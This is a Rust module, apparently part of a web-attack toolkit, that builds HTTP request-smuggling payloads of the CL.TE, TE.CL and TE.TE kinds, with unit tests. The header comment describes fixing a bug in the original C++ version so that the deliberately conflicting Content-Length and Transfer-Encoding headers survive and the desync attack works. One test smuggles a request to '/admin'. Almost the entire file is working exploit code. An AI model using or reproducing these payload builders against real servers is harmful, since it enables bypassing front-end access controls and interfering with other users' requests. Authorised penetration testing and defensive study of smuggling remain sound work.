//! HTTP request-smuggling payload builders: CL.TE, TE.CL, TE.TE.
//! Grounded on `original_source/src/http/smuggling.cpp`'s
//! `createCLTE`/`createTECL`/`createTETE`, with one correction: the
//! original calls `setBody()` *after* setting its deliberately-wrong
//! `Content-Length`, and `setBody()` unconditionally recomputes
//! `Content-Length` from the real body size — silently overwriting the
//! attack header with the correct value and defeating the technique.
//! Here the conflicting length/encoding headers are always applied
//! last, after the body, so the desync the caller asked for survives.

use super::request::Request;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SmugglingType {
    /// Front-end honors Content-Length, back-end honors Transfer-Encoding.
    ClTe,
    /// Front-end honors Transfer-Encoding, back-end honors Content-Length.
    TeCl,
    /// Both hops parse Transfer-Encoding, but disagree on which of two
    /// duplicate/obfuscated headers wins.
    TeTe,
}

/// Front-end trusts `Content-Length` (matching the smuggled request's
/// true size); back-end, reading it as chunked, consumes just the first
/// chunk and leaves `smuggled_request` queued as the start of the next.
pub fn create_cl_te(url: impl Into<String>, smuggled_request: &str) -> Request {
    let mut req = Request::new("POST", url);
    req.set_body(smuggled_request.as_bytes().to_vec());
    req.set_header("Content-Length", smuggled_request.len().to_string());
    req.set_header("Transfer-Encoding", "chunked");
    req
}

/// Front-end trusts `Transfer-Encoding` and forwards the chunked body
/// whole; back-end trusts the (deliberately short) `Content-Length` and
/// stops early, leaving the chunk trailer to be reinterpreted as the
/// start of the next request.
pub fn create_te_cl(url: impl Into<String>, smuggled_request: &str) -> Request {
    let mut req = Request::new("POST", url);
    let chunked_body = super::chunked::encode(smuggled_request.as_bytes());
    req.set_body(chunked_body);
    req.set_header("Transfer-Encoding", "chunked");
    req.set_header("Content-Length", "0");
    req
}

/// Sends `Transfer-Encoding` twice (`chunked` then `identity`) so a
/// front-end and back-end that each pick a different occurrence disagree
/// on whether the body is chunked at all.
pub fn create_te_te(url: impl Into<String>, smuggled_request: &str) -> Request {
    let mut req = Request::new("POST", url);
    let chunked_body = super::chunked::encode(smuggled_request.as_bytes());
    req.set_body(chunked_body);
    req.set_header("Transfer-Encoding", "chunked");
    req.add_header("Transfer-Encoding", "identity");
    req
}

pub fn build_malformed(url: impl Into<String>, content: &str, kind: SmugglingType) -> Request {
    match kind {
        SmugglingType::ClTe => create_cl_te(url, content),
        SmugglingType::TeCl => create_te_cl(url, content),
        SmugglingType::TeTe => create_te_te(url, content),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cl_te_reports_true_body_length_and_chunked_encoding() {
        let smuggled = "GET /admin HTTP/1.1\r\nHost: x\r\n\r\n";
        let req = create_cl_te("/", smuggled);
        assert_eq!(
            req.get_header("Content-Length"),
            Some(smuggled.len().to_string().as_str())
        );
        assert_eq!(req.get_header("Transfer-Encoding"), Some("chunked"));
    }

    #[test]
    fn te_cl_keeps_short_content_length_despite_large_chunked_body() {
        let req = create_te_cl("/", "smuggled payload of some length");
        assert_eq!(req.get_header("Content-Length"), Some("0"));
        assert_eq!(req.get_header("Transfer-Encoding"), Some("chunked"));
        assert!(req.body().len() > 1);
    }

    #[test]
    fn te_te_sends_duplicate_transfer_encoding_headers() {
        let req = create_te_te("/", "x");
        assert_eq!(
            req.headers().get_all("Transfer-Encoding"),
            vec!["chunked", "identity"]
        );
    }

    #[test]
    fn build_malformed_dispatches_by_type() {
        let req = build_malformed("/", "x", SmugglingType::TeCl);
        assert_eq!(req.get_header("Content-Length"), Some("0"));
    }
}
